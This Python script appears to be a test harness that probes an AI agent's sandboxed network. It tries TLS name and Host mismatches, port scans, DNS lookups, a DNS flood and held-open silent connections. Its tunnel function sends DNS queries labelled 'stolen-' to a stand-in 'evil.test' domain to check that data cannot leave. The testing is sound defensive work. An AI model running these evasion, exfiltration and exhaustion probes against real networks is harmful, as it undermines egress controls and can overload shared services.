"""What a program without a proxy sees of the agent's network, one probe by name; prints what came, in a fixed order."""
import errno, os, re, socket, ssl, struct, sys, threading, time


def answer(stream):
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            more = stream.recv(4096)
            if not more:
                break
            data += more
    except OSError as error:
        return type(error).__name__
    if not data:
        return "closed"
    reason = re.search(rb"(?im)^x-bottle-reason: *([^\r]*)", data)
    return data.split()[1].decode() + (" " + reason[1].decode() if reason else "")


def dial(name, port, family=socket.AF_INET):
    address = socket.getaddrinfo(name, port, family, socket.SOCK_STREAM)[0][4]
    stream = socket.socket(family)
    stream.settimeout(20)
    stream.connect(address)
    return stream


def get(host):
    return f"GET /{host} HTTP/1.1\r\nHost: {host}\r\nconnection: close\r\n\r\n".encode()


def tls(dialled, server_name, host, family=socket.AF_INET, port=443):
    """The certificate must be that of the name that the client sends, or dialled."""
    context = ssl.create_default_context()
    context.check_hostname = False
    try:
        with dial(dialled, port, family) as raw:
            stream = context.wrap_socket(raw, server_hostname=server_name)
            names = [value for _, value in stream.getpeercert()["subjectAltName"]]
            stream.sendall(get(host))
            return f"{answer(stream)} as {' '.join(names)}"
    except (OSError, ssl.SSLError) as error:
        return type(error).__name__


def confusion():
    print("all agree", tls("echo.test", "echo.test", "echo.test"))
    print("over IPv6", tls("echo.test", "echo.test", "echo.test", socket.AF_INET6))
    print("on port 80", tls("echo.test", "echo.test", "echo.test:80", port=80))
    print("no server name", tls("echo.test", None, "echo.test"))
    print("no server name, another host", tls("echo.test", None, "other.test"))
    print("another server name", tls("echo.test", "other.test", "other.test"))
    print("another host", tls("echo.test", "echo.test", "other.test"))
    print("another port", tls("echo.test", "echo.test", "echo.test:444"))
    print("an address for a server name", tls("echo.test", socket.gethostbyname("echo.test"), "echo.test"))
    print("a refused name", tls("unlisted.test", "unlisted.test", "unlisted.test"))
    print("a refused name for an allowed one", tls("unlisted.test", "echo.test", "echo.test"))
    print("an address without a name", tls("198.19.64.200", "echo.test", "echo.test"))
    print("an address of the interface", tls("198.19.0.1", "echo.test", "echo.test"))
    for what, dialled, host in (("plain", "plain.test", "plain.test"), ("plain, another host", "echo.test", "other.test"),
                                ("plain, a refused name", "unlisted.test", "unlisted.test"), ("plain, no name", "198.19.64.201", "echo.test")):
        with dial(dialled, 80) as stream:
            stream.sendall(get(host))
            print(what, answer(stream))
    with dial("echo.test", 443) as stream:
        stream.sendall(get("echo.test"))
        print("no TLS", answer(stream))
    with dial("echo.test", 443) as stream:
        stream.sendall(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n")
        print("a proxy's request", answer(stream))
    with dial("echo.test", 80) as stream:
        stream.sendall(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n")
        print("a proxy's request on port 80", answer(stream))


def attempt(action):
    try:
        action()
        return "ok"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def connected(host, port):
    """A connection that is open for a moment only is as good as none."""
    with dial(host, port) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\n\r\n")
        if not stream.recv(1):
            raise ConnectionResetError(errno.ECONNRESET, "closed")


RECORDED = (22, 25, 1433, 3306, 5432, 5672, 6379, 9418, 11211, 27017)


def ports():
    for port in RECORDED + (23, 8080, 8443, 9092):
        print(port, *sorted({attempt(lambda: connected("db.test", port)) for _ in range(2)}))
    print("22 over IPv6", attempt(lambda: dial("six.test", 22, socket.AF_INET6)))
    for host in ("127.0.0.1", "127.8.9.10", "localhost", socket.gethostname()):
        print(host, *(attempt(lambda: connected(host, port)) for port in (80, 443)))
    for family, host in ((socket.AF_INET, "quic.test"), (socket.AF_INET6, "quic.test")):
        with socket.socket(family, socket.SOCK_DGRAM) as quic:
            quic.settimeout(20)
            quic.connect(socket.getaddrinfo(host, 443, family)[0][4])
            quic.send(b"x")
            print("QUIC", attempt(lambda: quic.recv(1)))


def servers():
    """What the agent starts itself has every port that it may have, and is reached where it listens."""
    for port in RECORDED[2:]:
        for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
            with socket.socket(family) as server:
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                said = attempt(lambda: (server.bind((address, port)), server.listen()))
                said += " " + attempt(lambda: socket.create_connection(("::1" if address == "::" else "127.0.0.1", port), 5).close())
                if said != "ok ok":
                    print(address, port, said)
    print("done")


def resolver():
    for host in ("echo.test", "example.test", "no.such.name.test", "intranet", "localhost", "a.localhost", socket.gethostname(), "egress", "git-gate",
                 "a.invalid", "xn--grn-ioa.test", "bad..name", "-a.test"):
        for family in (socket.AF_INET, socket.AF_INET6):
            try:
                found = {info[4][0] for info in socket.getaddrinfo(host, 1, family, socket.SOCK_STREAM)}
                kinds = {"local" if re.match(r"198\.19\.|fd62:6f74:746c:6500:", each) else each for each in found}
            except (OSError, UnicodeError) as error:
                kinds = ["none"]
            print(host, "v4" if family == socket.AF_INET else "v6", *sorted(kinds))
    # As programs ask that want addresses of configured families only.
    hints = socket.AI_ADDRCONFIG
    print("configured", *sorted({family.name for family in (info[0] for info in socket.getaddrinfo("echo.test", 443, 0, socket.SOCK_STREAM, 0, hints))}))
    print("the same again", socket.gethostbyname("echo.test") == socket.gethostbyname("ECHO.test."))


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tunnel():
    """Data in names and in every type, over both transports: no answer carries anything, and nothing leaves."""
    codes = set()
    for kind in (1, 28, 2, 5, 6, 10, 12, 15, 16, 33, 65, 255):
        message = question(f"stolen-{kind}." + "a" * 60 + ".evil.test", kind)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(20)
            udp.sendto(message, ("127.0.0.53", 53))
            over_udp = udp.recv(4096)
        with socket.create_connection(("127.0.0.53", 53), 20) as tcp:
            tcp.sendall(struct.pack(">H", len(message)) + message)
            length = struct.unpack(">H", tcp.recv(2, socket.MSG_WAITALL))[0]
            over_tcp = tcp.recv(length, socket.MSG_WAITALL)
        assert over_udp == over_tcp and over_udp[12:len(message)] == message[12:]
        codes.add((kind in (1, 28), over_udp[3] & 15, struct.unpack(">H", over_udp[6:8])[0]))
    print(*sorted(codes))
    for server, port in (("8.8.8.8", 53), ("1.1.1.1", 853), ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("127.0.0.1", 53)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(20)
            print(server, port, attempt(lambda: (udp.connect((server, port)), udp.send(question("stolen.evil.test", 1)), udp.recv(512))))


def exhaustion():
    """More names than there are, as fast as they are answered; those that are in use stay what they are."""
    first = socket.gethostbyname("echo.test")
    open_connection = dial("echo.test", 443)
    codes = {}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(20)
        udp.connect(("127.0.0.53", 53))
        for n in range(17_000):
            udp.send(question(f"n{n}.flood.test", 1))
            code = udp.recv(512)[3] & 15
            codes[code] = codes.get(code, 0) + 1
    print(codes, socket.gethostbyname("echo.test") == first, tls("echo.test", "echo.test", "echo.test"))
    try:
        print("new name", socket.gethostbyname("one.more.test"))
    except OSError as error:
        print("new name", error.strerror)
    open_connection.close()


def slow():
    """Connections that say nothing, to the resolver and to the ports: whoever asks meanwhile is served."""
    silent = [socket.create_connection(("127.0.0.53", 53), 20) for _ in range(80)]
    silent += [dial(f"slow{n}.test", port) for n in range(30) for port in (80, 443)]
    print(tls("echo.test", "echo.test", "echo.test"))
    silent.clear()


{"confusion": confusion, "ports": ports, "servers": servers, "resolver": resolver, "tunnel": tunnel, "exhaustion": exhaustion, "slow": slow}[sys.argv[1]]()
